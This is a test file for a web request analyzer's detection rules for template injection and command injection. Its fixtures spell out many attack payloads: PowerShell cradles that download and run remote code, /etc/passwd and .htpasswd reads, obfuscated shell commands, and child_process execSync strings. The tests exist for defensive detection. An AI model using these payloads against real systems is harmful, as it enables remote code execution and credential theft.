import fc from 'fast-check';
import { InspectedValue, inspectValue } from '@/runtime/analyzer/engine/detection';
import { shellForm } from '@/runtime/analyzer/engine/detection/decode';
import { commandInjectionPack } from '@/runtime/analyzer/engine/detection/rules/cmdi';
import { templateInjectionPack } from '@/runtime/analyzer/engine/detection/rules/ssti';
import { ruleScore } from '@/runtime/analyzer/engine/detection/scoring';
import type { RulePack, ValueLocation } from '@/runtime/analyzer/engine/detection/types';

const score = (pack: RulePack, value: string, location: ValueLocation = 'query', name = 'q'): number =>
  inspectValue(new InspectedValue(location, name, value), [pack]).reduce((sum, r) => sum + ruleScore(r), 0);
const idsOf = (pack: RulePack, value: string): number[] => inspectValue(new InspectedValue('query', 'q', value), [pack]).map((r) => r.id);

describe('SSTI pack', () => {
  it.each([
    // arithmetic probes in each engine's delimiters, and bare where the input already sits in an expression
    '{{7*7}}',
    '${7*7}',
    '#{7*7}',
    '<%= 7*7 %>',
    '*{7*7}',
    '@(7*7)',
    '[[${7*7}]]',
    '42*42',
    ' 1337 * 1337 ',
    "7*'7'",
    '%7B%7B7*7%7D%7D',
    '%252A%257B7*7%257D',
    // EL implicit objects and FreeMarker special variables
    '${pageContext.request.getSession()}',
    '#{facesContext.externalContext.request}',
    '${applicationScope}',
    '${.vars}',
    '${ .data_model?keys }',
    // Twig and Django globals
    '{{dump(app)}}',
    '{{app.request.server.all|join(",")}}',
    '{{ settings.SECRET_KEY }}',
    '{% print 7*7 %}',
    "{{ 'id'|passthru }}",
    '{{ _context }}',
    '{math equation="7*7"}',
    // Velocity references need no braces
    '$request.getClass()',
    '${class.getResource("").getPath()}',
    // ERB and EJS reaching the environment
    '<%= ENV.inspect %>',
    "<%- global.process.mainModule.require('child_process').execSync('id') %>",
    // Pug code lines, OGNL `%{}` and parenthesised arithmetic (Struts S2-057 probes)
    "- var x = root.process.mainModule.require('child_process').execSync('id')\n= x",
    'p hi\n  - each v in [global.process.mainModule]\n  = v',
    '${(111+111)}',
    '%{(7*7)}',
  ])('alerts at level 1 on %s', (payload) => {
    expect(score(templateInjectionPack, payload)).toBeGreaterThanOrEqual(5);
  });

  it.each([
    '1920*1080',
    '1*1',
    '2*3',
    '3 * 4 = 12',
    'x*x',
    '{{ product.name }}',
    '${price}',
    'Hello {{name}}, your order ships soon',
    'settings.theme',
    '<% if user %>',
    'app.request',
    '$scope.user.name',
    '{{ name|upper }}',
    'Total: $total.amount',
    // A Markdown list item is no Pug code line
    '- if you use child_process.exec, escape its arguments',
    '- var names: see process.env docs',
  ])('leaves %s alone', (value) => {
    expect(score(templateInjectionPack, value)).toBeLessThan(5);
  });

  it.each([
    // FreeMarker built-ins, Velocity directives, Smarty functions and FreeMarker square syntax that
    // hold neither a `*` nor a brace delimiter
    '"freemarker.template.utility.Execute"?new()("id")',
    '"1+1"?eval',
    '"x"?interpret',
    '#parse("/etc/passwd")',
    '#include("/etc/passwd")',
    "{passthru('id')}",
    '{phpinfo()}',
    '[$7+7]',
  ])('alerts at level 1 on %s, which has no `*`', (payload) => {
    expect(score(templateInjectionPack, payload)).toBeGreaterThanOrEqual(5);
  });

  it.each(['https://example.com/page?eval=1', '/search?interpret=yes&q=a', 'a?evaluation'])('leaves the URL %s alone', (value) => {
    expect(score(templateInjectionPack, value)).toBe(0);
  });

  it('lets through its prefilter every value its rules match', () => {
    // The prefilter may only skip values no rule can match: run the rules without it on values
    // built from the rules' own delimiters, directives and operators.
    const token = fc.constantFrom(
      ...[
        '{{',
        '}}',
        '{%',
        '%}',
        '${',
        '#{',
        '*{',
        '@{',
        '~{',
        '}',
        '<%',
        '%>',
        '<#',
        '[#',
        '[=',
        '[$',
        '[[',
        ']]',
        '[(',
        '@(',
        ')',
        '(',
        '#set',
        '#parse',
        '#macro',
        '{php}',
        '{$smarty',
        '{passthru',
        '{if ',
        '{literal}',
        '{math ',
        '{#',
        '{^',
        '{/',
        '?new()',
        '?eval',
        '?interpret',
        '__',
        '.',
        '::',
        '7',
        '42',
        '*',
        '+',
        ' ',
        "'",
        '"',
        '$x.y',
        'system',
        'exec',
        'config',
        'java.lang.runtime',
        'getclass(',
        '|',
        'passthru',
        'a',
        'x',
        '=',
        '&',
        '%{',
        '\n',
        '- var x =',
        '- if (',
        '= ',
        'process.mainmodule',
      ],
    );
    fc.assert(
      fc.property(fc.array(token, { maxLength: 12 }), (tokens) => {
        const v = new InspectedValue('query', 'q', tokens.join(''));
        const reported: number[] = [];
        templateInjectionPack.inspect(v, (rule) => reported.push(rule.id));
        return reported.length === 0 || templateInjectionPack.prefilter(v);
      }),
      { numRuns: 20_000 },
    );
  });

  it('reads a square probe as one rule, not as arithmetic in any template', () => {
    expect(idsOf(templateInjectionPack, '42*42')).toEqual([700104]);
    expect(idsOf(templateInjectionPack, '{{42*42}}')).toEqual([700101]);
  });
});

describe('command injection pack', () => {
  it.each([
    // PowerShell download cradles and invocation
    "; IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')",
    '| powershell iex(new-object net.webclient).downloadstring("http://x/a")',
    '& iwr http://198.51.100.7/p.ps1 | iex',
    '& Invoke-WebRequest -Uri http://198.51.100.7/a -OutFile a.exe',
    '; [System.Convert]::FromBase64String($p)',
    // shell expansions only an evasion uses
    'echo $((1337+1))',
    ';echo $((a*b))',
    ';${PATH:0:1}etc${PATH:0:1}passwd',
    ";$'\\x63\\x61\\x74' /etc/passwd",
    ';/???/??t /???/p??s??',
    '|/b?n/c*t /etc/passwd',
    '& %COMSPEC% /c dir',
    ';/usr/bin/w?oami',
    ';/bin/ca? /etc/pa??wd',
    // PowerShell cmdlets as probes, a hidden credentials file, a lone destructive command
    ';Get-Process',
    ';Start-Sleep -s 5',
    '&& cat .htpasswd',
    ';reboot',
    // empty substitutions and quoted pieces inside a command name
    ';wh$()oami',
    ';wh``oami',
    ';"i"d',
    ";'who'ami",
    ";$'id'",
    // a whole value that names an environment variable a probe prints
    '$HOME',
    '${PATH}',
    "$ENV{'HOME'}",
    '%COMSPEC%',
    '$env:USERNAME',
    // plain-word arguments of an unmistakable command after a separator; a trailing shell comment
    ';getent passwd',
    '|nslookup attacker',
    '$(uname -r)',
    "'; tasklist #",
    '"; whoami # x',
  ])('alerts at level 1 on %s', (payload) => {
    expect(score(commandInjectionPack, payload)).toBeGreaterThanOrEqual(5);
  });

  it.each([
    'IEX (Investors Exchange) opened higher',
    'How to download files in PowerShell',
    'new object oriented design',
    'price $((total)) pending',
    '/**/*',
    '/search?q=a/b?',
    'What is $HOME in Linux?',
    'USD $100',
    'path/to/file?.txt',
    'Read "Dune" daily',
    'The device froze; reboot fixed it',
    'we met; get-together later',
    'see /usr/bin/ for binaries',
    'cat .net developer',
    'a;ps x',
    'meet|last week',
    'size;w 2',
    'tags;groups admins',
    'notes; chmod explained',
    'I ran ping; traceroute showed loss at hop 5',
    'Great post | whoami podcast episode 12',
    'see the docs; netstat options explained',
    'Q&A | uptime #devops',
  ])('leaves %s alone', (value) => {
    expect(score(commandInjectionPack, value)).toBeLessThan(5);
  });

  it('reads a lone number as a command argument only for delay commands', () => {
    expect(score(commandInjectionPack, 'sleep 10')).toBe(4);
    expect(score(commandInjectionPack, 'Start-Sleep 5')).toBe(4);
    expect(score(commandInjectionPack, 'w 2')).toBe(0);
    expect(score(commandInjectionPack, 'RM 41')).toBe(0);
  });

  it('does not read a base64 stickiness cookie as the command `w` at any level', () => {
    const cookie = 'w+GXeHFgLhDI4kyNigIYJD3p42zvf6qSHdisTxoGou3nS5MPZ+vTZehaI0rMGe17Ov3w+yl+usSk/VW9mXzuBSv4XVB0vIQ=';
    expect(score(commandInjectionPack, cookie, 'cookie', 'lbsticky')).toBe(0);
    expect(score(commandInjectionPack, 'w+/etc/passwd', 'cookie', 'lbsticky')).toBeGreaterThan(0);
  });
});

describe('shell form', () => {
  it('drops empty substitutions and joins quoted pieces the shell would join', () => {
    expect(shellForm(';wh$()oami')).toBe(';whoami');
    expect(shellForm(';wh``oami')).toBe(';whoami');
    expect(shellForm(';"i"d')).toBe(';id');
    expect(shellForm(";$'id'")).toBe(';id');
    expect(shellForm('say "hello" world')).toBe('say "hello" world');
  });

  it('terminates and never grows the value on arbitrary input', () => {
    const alphabet = fc.constantFrom(...'$\'"`(){},;|&^\\ +ifsIFS0123abc/.-*?'.split(''));
    fc.assert(
      fc.property(fc.array(alphabet, { maxLength: 400 }), (chars) => {
        const input = chars.join('').toLowerCase();
        expect(shellForm(input).length).toBeLessThanOrEqual(input.length);
      }),
      { numRuns: 500 },
    );
  });
});
